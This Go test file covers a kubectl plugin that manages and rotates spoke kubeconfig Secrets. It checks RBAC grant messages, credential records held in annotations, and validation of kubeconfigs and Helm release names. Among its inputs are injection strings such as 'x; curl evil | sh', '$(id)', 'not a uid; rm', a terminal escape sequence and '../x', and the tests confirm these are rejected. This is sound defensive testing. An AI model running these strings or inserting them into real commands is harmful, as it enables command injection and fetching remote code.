package spoke

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"gotest.tools/v3/assert"
	is "gotest.tools/v3/assert/cmp"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/spokekit/spokekit/internal/api/fleetconfig"
	"github.com/spokekit/spokekit/internal/cli/clitest"
	"github.com/spokekit/spokekit/internal/exitcode"
	"github.com/spokekit/spokekit/internal/kubeconfig"
)

const forbiddenStatus = `{"kind":"Status","apiVersion":"v1","status":"Failure","reason":"Forbidden","code":403}`

// recordedSpokeJSON is spokeJSON with annotations (a JSON object).
func recordedSpokeJSON(name, secret, annotations string) string {
	return fmt.Sprintf(`{"apiVersion":"fleetconfig.open-cluster-management.io/v1beta1","kind":"Spoke","metadata":{"name":%q,"namespace":"mural-system","uid":"u-%s","resourceVersion":"5","annotations":%s},"spec":{"kubeconfig":{"secretReference":{"name":%q,"kubeconfigKey":"kubeconfig"}}}}`,
		name, name, annotations, secret)
}

// A holder of a role that may patch Spokes points spoke-1 at another
// spoke's Secret: a command that may not read it prints no grant for it,
// and says why, naming the reference. The Secret spokekit recorded writing
// for spoke-1 still gets its grant.
func TestNoGrantIsPrintedForASecretSpokekitDidNotRecord(t *testing.T) {
	for name, tc := range map[string]struct {
		secret, annotations string
		grant               bool
		why                 string
	}{
		"another spoke's secret":       {"spoke-2-kubeconfig", `{"spoke.spokekit.io/kubeconfig-secret":"spoke-2-kubeconfig"}`, false, "kubectl spoke names the kubeconfig Secrets it writes for spoke spoke-1 spoke-1-kubeconfig or spoke-1-kubeconfig-SUFFIX"},
		"a registry TLS secret":        {"registry-tls", `{}`, false, "and this is neither"},
		"its own name, never recorded": {"spoke-1-kubeconfig-x", `{}`, false, "recorded writing no Secret for spoke spoke-1"},
		"its own name, another record": {"spoke-1-kubeconfig-x", `{"spoke.spokekit.io/kubeconfig-secret":"spoke-1-kubeconfig"}`, false, "recorded writing secret spoke-1-kubeconfig for spoke spoke-1, not this one"},
		"the recorded secret":          {"spoke-1-kubeconfig", `{"spoke.spokekit.io/kubeconfig-secret":"spoke-1-kubeconfig"}`, true, ""},
		"a malformed record":           {"spoke-1-kubeconfig", `{"spoke.spokekit.io/kubeconfig-secret":"Spoke 1"}`, false, "is not a secret name"},
	} {
		t.Run(name, func(t *testing.T) {
			srv, _ := rotatingFleet(t)
			srv.Respond("GET /apis/fleetconfig.open-cluster-management.io/v1beta1/namespaces/mural-system/spokes/spoke-1", 200, recordedSpokeJSON("spoke-1", tc.secret, tc.annotations))
			srv.Respond("GET /api/v1/namespaces/mural-system/secrets/"+tc.secret, 403, forbiddenStatus)
			code, _, errOut := runSpoke(srv, "rotate-kubeconfig", "spoke-1", "--spoke-kubeconfig", srv.Kubeconfig)
			assert.Check(t, is.Equal(code, exitcode.Refused), errOut)
			assert.Check(t, is.Contains(errOut, "may not read secret mural-system/"+tc.secret))
			assert.Check(t, is.Len(writes(srv), 0))
			if tc.grant {
				assert.Check(t, is.Contains(errOut, "kubectl create role spokekit-spoke:"+tc.secret+" -n mural-system --verb get,update --resource secrets --resource-name "+tc.secret))
				return
			}
			assert.Check(t, !strings.Contains(errOut, "kubectl create role"), errOut)
			assert.Check(t, is.Contains(errOut, "no grant is printed for secret mural-system/"+tc.secret))
			assert.Check(t, is.Contains(errOut, tc.why))
		})
	}
}

// spoke-1 pointed at the Secret of spoke-9 (the same cluster, as a stand-in
// that the comparison of clusters passes): a rotation in place would
// overwrite spoke-9's credentials, so it is refused like one into --secret.
func TestRotateInPlaceRefusesASecretAnotherSpokeUses(t *testing.T) {
	srv, kc := rotatingFleet(t, fmt.Sprintf(spokeJSON, "spoke-9", "spoke-9", "spoke-9-kubeconfig"))
	srv.Respond("GET /apis/fleetconfig.open-cluster-management.io/v1beta1/namespaces/mural-system/spokes/spoke-1", 200, fmt.Sprintf(spokeJSON, "spoke-1", "spoke-1", "spoke-9-kubeconfig"))
	srv.Respond("GET /api/v1/namespaces/mural-system/secrets/spoke-9-kubeconfig", 200, secretJSON("spoke-9-kubeconfig", kc))
	srv.Respond("PUT /api/v1/namespaces/mural-system/secrets/spoke-9-kubeconfig", 200, secretJSON("spoke-9-kubeconfig", kc))
	code, _, errOut := runSpoke(srv, "rotate-kubeconfig", "spoke-1", "--spoke-kubeconfig", srv.Kubeconfig)
	assert.Check(t, is.Equal(code, exitcode.Refused), errOut)
	assert.Check(t, is.Contains(errOut, "secret mural-system/spoke-9-kubeconfig is the kubeconfig of spoke spoke-9"))
	assert.Check(t, is.Len(writes(srv), 0))
}

// A rotation in place records the new credential on the Spoke, guarded by
// its UID; one into --secret records it in the patch that points the Spoke
// at the new Secret.
func TestRotateRecordsWhatItWrote(t *testing.T) {
	srv, kc := rotatingFleet(t)
	srv.Respond("PUT /api/v1/namespaces/mural-system/secrets/spoke-1-kubeconfig", 200, secretJSON("spoke-1-kubeconfig", kc))
	srv.Respond("PATCH /apis/fleetconfig.open-cluster-management.io/v1beta1/namespaces/mural-system/spokes/spoke-1", 200, fmt.Sprintf(spokeJSON, "spoke-1", "spoke-1", "spoke-1-kubeconfig"))
	code, _, errOut := runSpoke(srv, "rotate-kubeconfig", "spoke-1", "--spoke-kubeconfig", srv.Kubeconfig)
	assert.Check(t, is.Equal(code, exitcode.OK), errOut)
	assert.Check(t, is.Equal(srv.Body("PATCH /apis/fleetconfig.open-cluster-management.io/v1beta1/namespaces/mural-system/spokes/spoke-1"),
		`[{"op":"test","path":"/metadata/uid","value":"u-spoke-1"},{"op":"test","path":"/metadata/annotations","value":null},{"op":"add","path":"/metadata/annotations","value":{"spoke.spokekit.io/credential-expires":"never","spoke.spokekit.io/credential-kind":"token","spoke.spokekit.io/kube-system-uid":"ks-1","spoke.spokekit.io/kubeconfig-secret":"spoke-1-kubeconfig"}}]`))
}

func TestReadRecord(t *testing.T) {
	expires := time.Date(2027, 1, 2, 3, 4, 5, 0, time.UTC)
	s := newSpoke("spoke-1", func(s *fleetconfig.Spoke) {
		s.Annotations = Record{Secret: "spoke-1-kubeconfig", Credential: kubeconfig.Credential{Kind: "client certificate", Expires: &expires}, ClusterUID: "0d5c4b3a-1111-2222-3333-444455556666"}.annotations()
	})
	r, err := readRecord(&s)
	assert.NilError(t, err)
	assert.DeepEqual(t, r, Record{Secret: "spoke-1-kubeconfig", Credential: kubeconfig.Credential{Kind: "client certificate", Expires: &expires}, ClusterUID: "0d5c4b3a-1111-2222-3333-444455556666"})

	for key, bad := range map[string]string{
		RecordSecretAnnotation:     "../x",
		RecordCredentialAnnotation: "\x1b]0;evil",
		RecordExpiresAnnotation:    "soon",
		RecordClusterUIDAnnotation: "not a uid; rm",
	} {
		s := newSpoke("spoke-1", func(s *fleetconfig.Spoke) { s.Annotations = map[string]string{key: bad} })
		_, err := readRecord(&s)
		assert.Check(t, is.Equal(exitcode.Of(err), exitcode.Refused))
		assert.Check(t, is.ErrorContains(err, "spoke spoke-1's annotation "+key))
	}
	none := newSpoke("spoke-1", func(s *fleetconfig.Spoke) { s.ObjectMeta = metav1.ObjectMeta{Name: "spoke-1"} })
	r, err = readRecord(&none)
	assert.NilError(t, err)
	assert.DeepEqual(t, r, Record{})
}

// The record is written over one already there, keeping the Spoke's other
// annotations, and a Spoke made again under the name gets none.
func TestRecordPatch(t *testing.T) {
	rec := Record{Secret: "spoke-1-kubeconfig", Credential: kubeconfig.Credential{Kind: "token"}, ClusterUID: "ks-2"}
	read := newSpoke("spoke-1", func(s *fleetconfig.Spoke) {
		s.UID = "u-1"
		s.Annotations = map[string]string{fleetconfig.HelmReleaseNameAnnotation: "mural", RecordClusterUIDAnnotation: "ks-1", RecordSecretAnnotation: "spoke-1-kubeconfig-old"}
	})
	after, err := applyPatch(t, read, recordPatch(&read, rec))
	assert.NilError(t, err)
	got, err := readRecord(after)
	assert.NilError(t, err)
	assert.Check(t, is.DeepEqual(got, rec))
	assert.Check(t, is.Equal(after.Annotations[fleetconfig.HelmReleaseNameAnnotation], "mural"))
	assert.Check(t, recorded(after, rec))

	again := read
	again.UID = "u-2"
	_, err = applyPatch(t, again, recordPatch(&read, rec))
	assert.Check(t, err != nil, "a Spoke made again under the name is not patched")
}

// status says which credential the hub stores and when it expires from the
// record, without reading the Secret: a user allowed to see status need not
// be allowed the spoke's admin credential. A malformed record is refused.
func TestStatusReadsNoSecret(t *testing.T) {
	for name, tc := range map[string]struct {
		annotations string
		code        int
		want        string
	}{
		"recorded":     {`{"spoke.spokekit.io/kubeconfig-secret":"spoke-1-kubeconfig","spoke.spokekit.io/credential-kind":"token","spoke.spokekit.io/credential-expires":"never"}`, exitcode.OK, "token, expires never (as recorded when kubectl spoke wrote the secret; the Secret is not read)"},
		"not recorded": {`{}`, exitcode.OK, "not recorded: kubectl spoke recorded no credential for secret spoke-1-kubeconfig on the Spoke; run kubectl spoke add spoke-1 --spoke-kubeconfig FILE again"},
		"another one":  {`{"spoke.spokekit.io/kubeconfig-secret":"spoke-1-kubeconfig-old","spoke.spokekit.io/credential-kind":"token"}`, exitcode.OK, "the Spoke names secret spoke-1-kubeconfig, and kubectl spoke recorded writing spoke-1-kubeconfig-old"},
		"malformed":    {`{"spoke.spokekit.io/kubeconfig-secret":"spoke-1-kubeconfig","spoke.spokekit.io/credential-kind":"token","spoke.spokekit.io/credential-expires":"soon"}`, exitcode.Refused, "annotation spoke.spokekit.io/credential-expires is neither an RFC 3339 time nor never"},
	} {
		t.Run(name, func(t *testing.T) {
			srv := hubWithOutOfBandCluster(t, true)
			srv.Respond("GET "+releasePath+"/spokes/spoke-1", 200, recordedSpokeJSON("spoke-1", "spoke-1-kubeconfig", tc.annotations))
			srv.Respond("GET "+clustersPath+"/spoke-1", 200, `{"apiVersion":"cluster.open-cluster-management.io/v1","kind":"ManagedCluster","metadata":{"name":"spoke-1"},"spec":{}}`)
			srv.Respond(spoke1Works, 200, `{"apiVersion":"work.open-cluster-management.io/v1","kind":"ManifestWorkList","metadata":{},"items":[]}`)
			srv.Respond("GET /api/v1/namespaces/mural-system/secrets/spoke-1-kubeconfig", 403, forbiddenStatus)
			code, out, errOut := run(srv, "status", "spoke-1", "-n", "mural-system")
			assert.Check(t, is.Equal(code, tc.code), "%s%s", out, errOut)
			assert.Check(t, is.Contains(out, tc.want))
			assert.Check(t, is.Equal(count(srv, "GET /api/v1/namespaces/mural-system/secrets"), 0), "no Secret is read: %v", srv.Requests())
		})
	}
}

// A kubeconfig every later command would refuse once stored (it sends
// requests over http, through a proxy or without checking the certificate)
// is refused by add before any request, not stored.
func TestAddRefusesAKubeconfigLaterCommandsRefuse(t *testing.T) {
	for name, cluster := range map[string]string{
		"http":     "    server: http://10.0.0.2:6443\n",
		"proxy":    "    server: https://10.0.0.2:6443\n    proxy-url: http://proxy.example:3128\n",
		"insecure": "    server: https://10.0.0.2:6443\n    insecure-skip-tls-verify: true\n",
	} {
		t.Run(name, func(t *testing.T) {
			file := filepath.Join(t.TempDir(), "spoke.kubeconfig")
			assert.NilError(t, os.WriteFile(file, []byte("apiVersion: v1\nkind: Config\ncurrent-context: s\ncontexts:\n- name: s\n  context: {cluster: s, user: u}\nclusters:\n- name: s\n  cluster:\n"+cluster+"users:\n- name: u\n  user: {token: t}\n"), 0o600))
			clitest.AssertExitBeforeAnyRequest(t, NewCmdSpoke, exitcode.Refused, "every command reading it from the Secret refuses it",
				[]string{"add", "spoke-1", "--spoke-kubeconfig", file},
				[]string{"rotate-kubeconfig", "spoke-1", "--spoke-kubeconfig", file})
		})
	}
}

// A release name from an annotation reaches the printed helm upgrade line
// only when Helm would accept it: anything else is RELEASE.
func TestHelmUpgradeLinePrintsOnlyAValidReleaseName(t *testing.T) {
	assert.Check(t, is.Contains(helmUpgrade("mural", "mural-system", "values.yaml"), "`helm upgrade mural CHART -n mural-system -f values.yaml`"))
	for _, bad := range []string{"x; curl evil | sh", "$(id)", "a`b`", "Mural", strings.Repeat("a", 54)} {
		got := helmUpgrade(bad, "mural-system", "values.yaml")
		assert.Check(t, is.Contains(got, "`helm upgrade RELEASE CHART"), bad)
		assert.Check(t, !strings.Contains(got, bad), bad)
	}
}
